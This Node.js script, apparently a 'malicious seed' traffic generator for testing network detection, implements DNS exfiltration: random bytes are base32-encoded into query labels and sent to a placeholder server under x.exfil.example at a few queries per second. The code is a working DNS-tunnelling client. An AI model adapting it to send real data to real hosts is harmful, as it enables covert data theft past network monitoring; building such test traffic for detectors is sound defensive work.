// Malicious seed 2B: DNS exfiltration with a fresh UDP socket per query (connect, send, wait for the answer,
// close) at 2–5 queries per second, each query carrying base32 data in its labels.
// Usage: node dns-burst.mjs --seed N --server 203.0.113.53 --domain x.exfil.example --log FILE
import dgram from 'node:dgram';
import { args, rng, seedFor, ready, logger, sleep, dnsQuery, parseAnswer, base32, labels, onStop, lifetime } from './lib.mjs';

const opt = args();
const r = rng(seedFor(opt.seed ?? 1, 'dns-burst'));
const log = logger(opt.log);
const server = opt.server ?? '203.0.113.53';
const domain = opt.domain ?? 'x.exfil.example';
const perSec = r.between(2, 5);
lifetime(opt['max-life-ms'] ?? 120_000);
onStop();

function query(name) {
  return new Promise((resolve) => {
    const s = dgram.createSocket('udp4');
    const id = r.int(1, 65535);
    const finish = (how) => {
      clearTimeout(timer);
      try {
        s.close();
      } catch {}
      resolve(how);
    };
    const timer = setTimeout(() => finish('timeout'), 1000);
    s.on('error', () => finish('error'));
    s.on('message', (m) => parseAnswer(m)?.id === id && finish('answer'));
    s.connect(53, server, () => s.send(dnsQuery(id, name)));
  });
}

const secret = Buffer.from(Array.from({ length: 4096 }, () => r.int(0, 255)));
let off = 0;
ready({ perSec: Math.round(perSec * 100) / 100 });
for (let seq = 0; ; seq++) {
  const t0 = Date.now();
  const chunk = secret.subarray(off, off + 30);
  off = (off + 30) % (secret.length - 30);
  const name = [...labels(base32(chunk), 63), seq.toString(36), domain].join('.');
  const how = await query(name);
  if (seq % 10 === 0) log({ kind: 'query', seq, how });
  // Poisson-ish spacing around the chosen rate.
  const gap = Math.min(2000, -Math.log(1 - r.next()) * (1000 / perSec));
  await sleep(Math.max(0, gap - (Date.now() - t0)));
}
